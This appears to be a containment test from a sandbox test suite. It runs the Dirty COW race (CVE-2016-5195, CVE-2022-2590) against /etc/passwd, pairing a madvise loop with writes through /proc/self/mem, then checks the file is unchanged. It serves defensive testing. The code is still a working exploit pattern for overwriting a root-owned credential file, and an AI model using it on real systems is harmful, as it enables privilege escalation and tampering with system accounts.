# PROPERTY: A private mapping of an image's file, written through /proc/self/mem, changes no file
# FROM: CVE-2016-5195, CVE-2022-2590
# EXPECTED: CONTAINED
from wall import *
import mmap, threading
path = "/etc/passwd"
before = open(path, "rb").read()
fd = os.open(path, os.O_RDONLY)
LIBC.mmap.restype = ctypes.c_void_p
at = LIBC.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
end_at = [False]
def drop():
    while not end_at[0]: LIBC.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)
thread = threading.Thread(target=drop, daemon=True); thread.start()
mem = os.open("/proc/self/mem", os.O_RDWR)
for _ in range(3000):
    try:
        os.pwrite(mem, b"HOSTILE", at)
    except OSError:
        break
end_at[0] = True
if open(path, "rb").read() != before: bad("%s has changed" % path)
ok()
